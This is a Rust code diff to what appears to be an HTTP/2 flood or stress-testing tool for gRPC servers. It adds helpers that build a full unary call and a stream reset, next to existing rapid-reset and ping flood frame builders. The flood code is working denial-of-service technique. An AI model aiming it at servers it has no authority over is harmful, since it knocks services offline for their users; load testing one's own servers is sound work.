@@ -8,6 +8,7 @@ use tokio::net::TcpStream;
 use tokio::time::Instant;
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+const DATA: u8 = 0;
 const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
@@ -38,7 +39,7 @@ impl Flood {
         match self {
             Self::RapidReset => {
                 let head = frame(HEADERS, END_STREAM | END_HEADERS, stream, &head(path));
-                [head, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
+                [head, reset(stream)].concat()
             }
             Self::Ping => frame(PING, 0, 0, &[7; 8]),
             // the largest window there is: every change is applied to every stream
@@ -77,6 +78,20 @@ fn head(path: &str) -> Vec<u8> {
     text(&mut out, &[0x0f, 0x10], "application/grpc");
     text(&mut out, &[0x00, 2, b't', b'e'], "trailers");
     out
+}
+
+/// Returns a whole unary call; `stream` is odd.
+pub fn call(stream: u32, path: &str, message: &impl prost::Message) -> Vec<u8> {
+    let message = message.encode_to_vec();
+    let length = u32::try_from(message.len()).expect("a short message").to_be_bytes();
+    let message = [&[0], length.as_slice(), message.as_slice()].concat();
+    let head = frame(HEADERS, END_HEADERS, stream, &head(path));
+    [head, frame(DATA, END_STREAM, stream, &message)].concat()
+}
+
+/// Returns what cancels a call.
+pub fn reset(stream: u32) -> Vec<u8> {
+    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
 }
 
 /// Returns a connection that has said hello.
